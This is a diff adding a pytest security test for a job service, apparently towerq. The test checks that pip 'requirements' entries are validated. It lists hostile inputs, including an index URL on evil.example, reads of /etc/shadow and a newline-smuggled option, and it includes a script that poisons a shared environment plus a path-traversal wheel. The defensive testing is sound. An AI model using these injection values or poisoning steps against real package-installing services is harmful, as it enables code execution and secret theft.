@@ -1,0 +1,104 @@
+"""A command job's `requirements` reach pip on the worker's host, as the worker's user, and
+the environment built is shared by every job that asks for the same list. A member could:
+pass pip an option (`--index-url` of their own, `-e /`), a URL or a path in place of a
+package; name a package that only comes as source, whose `setup.py` pip would run as the
+worker to build it; name a wheel that writes outside the environment; or change the shared
+environment from inside a job, so the next member's job with the same list runs their code.
+None of that gets through (`towerq.contract.program_env.requirement`, `worker.pyenv`)."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from service.core.settings import Settings
+from tests.stack import Stack, finished, log_messages, upload_code, wait_for
+from tests.wheels import sdist, wheel
+
+pytestmark = pytest.mark.slow
+HOSTILE = [
+    "--index-url=https://evil.example/simple",
+    "-e /",
+    "-r /etc/shadow",
+    "towerq-probe @ file:///etc/shadow",
+    "towerq-probe @ https://evil.example/probe.whl",
+    "/srv/wheels/towerq_probe-1.0-py3-none-any.whl",
+    "./towerq-probe",
+    "towerq-probe; os_name == 'posix'",
+    "towerq-probe\n--index-url=https://evil.example/simple",
+    "towerq-probe==1.0 --hash=sha256:00",
+    "",
+]
+POISON = """
+import pathlib, towerq_probe
+target = pathlib.Path(towerq_probe.__file__)
+for path, text in ((target, "VALUE = 'poisoned'\\n"), (target.parent / "evil.pth", "import os\\n")):
+    try:
+        path.write_text(text)
+        print("CHANGED the environment")
+    except OSError as err:
+        print("refused", type(err).__name__)
+print("VALUE", towerq_probe.VALUE)
+"""
+
+
+@pytest.fixture
+def settings(make_settings: Callable[..., Settings], sqlite_url: str) -> Settings:
+    return make_settings(sqlite_url)
+
+
+def test_requirements_are_packages_from_the_labs_index_built_from_wheels_and_read_only_to_jobs(
+    stack: Stack, settings: Settings, make_token: Callable[..., str], tmp_path: Path
+) -> None:
+    index = tmp_path / "index"
+    index.mkdir()
+    wheel(index, "towerq-probe", "1.0", {"towerq_probe.py": "VALUE = 'clean'\n"})
+    marker = tmp_path / "setup-py-ran"
+    sdist(index, "towerq-source", "1.0", f"open({str(marker)!r}, 'w').write('ran as the worker')\n")
+    escape = tmp_path / "escaped.txt"
+    wheel(index, "towerq-escape", "1.0", {f"../../../../../../../../../../..{escape}": "out\n"})
+    stack.start_api()
+    stack.start_scheduler()
+    # the lab lets pip build without isolation: were sources built, setup.py would run
+    options = f"--no-index --find-links {index} --no-build-isolation"
+    stack.start_worker("lab-a", 1, sandbox="bwrap", trainer_pool=0, pip_options=options)
+    client = stack.client(make_token("mallory"))
+    wait_for(lambda: client.get("/api/gpus").json(), 60, "the worker to register its GPUs")
+    code = upload_code(client, {"poison.py": POISON})
+
+    def run(requirements: list[str]) -> tuple[dict, list[str]]:
+        created = client.post(
+            "/api/jobs", json={"command": ["python", "poison.py"], "code": code, "requirements": requirements}
+        )
+        assert created.status_code == 201, created.text
+        job = finished(client, created.json()["id"])
+        return job, log_messages(client, job["id"])
+
+    # options, URLs, paths, markers: refused at submit, naming the field
+    for entry in HOSTILE:
+        refused = client.post(
+            "/api/jobs", json={"command": ["python", "poison.py"], "code": code, "requirements": [entry]}
+        )
+        assert refused.status_code == 422, (entry, refused.text)
+        assert "requirements" in refused.text, (entry, refused.text)
+
+    # a package that comes only as source is not built: its setup.py never runs
+    job, said = run(["towerq-source==1.0"])
+    assert not marker.exists(), "setup.py ran on the worker"
+    assert job["state"] == "failed" and "No matching distribution found for towerq-source" in job["error"], job
+
+    # a wheel that writes outside its environment is refused by pip, and writes nothing
+    job, said = run(["towerq-escape==1.0"])
+    assert job["state"] == "failed" and "could not be installed" in job["error"], (job, said[-10:])
+    assert not escape.exists()
+
+    # the environment is read only to the job that runs in it: the next job with the same list
+    # runs what pip installed
+    job, said = run(["towerq-probe==1.0"])
+    assert job["state"] == "succeeded", (job["error"], said[-10:])
+    assert said.count("refused PermissionError") + said.count("refused OSError") == 2, said[-10:]
+    assert "CHANGED the environment" not in said and "VALUE clean" in said, said[-10:]
+    job, said = run(["towerq-probe==1.0"])
+    assert "VALUE clean" in said and not list((settings.var_dir / "envs").glob("*/lib/*/site-packages/evil.pth"))
